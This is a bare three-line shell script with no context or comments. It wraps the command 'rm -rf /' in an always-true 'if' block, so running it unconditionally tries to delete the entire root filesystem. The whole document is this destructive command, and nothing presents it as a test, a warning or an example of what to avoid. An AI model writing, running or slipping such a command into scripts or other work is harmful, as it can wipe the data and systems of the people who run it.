if true; then
  rm -rf /
fi
